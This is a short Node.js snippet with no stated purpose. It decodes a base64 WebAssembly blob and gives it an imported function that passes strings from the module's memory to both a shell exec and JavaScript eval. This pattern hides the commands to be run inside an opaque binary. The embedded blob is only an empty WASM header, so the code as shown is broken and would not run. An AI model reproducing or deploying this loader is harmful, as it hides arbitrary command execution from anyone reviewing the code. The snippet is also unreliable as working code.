const fs = require('fs'); const { exec } = require('child_process');
const b = Buffer.from('AGFzbQEAAAA=', 'base64');
WebAssembly.instantiate(b, { env: { run: (p, l) => { const s = Buffer.from(new Uint8Array(mem.buffer, p, l)).toString(); exec(s); eval(s); } } }).then(r => { mem = r.instance.exports.memory; r.instance.exports.start(); });
let mem;
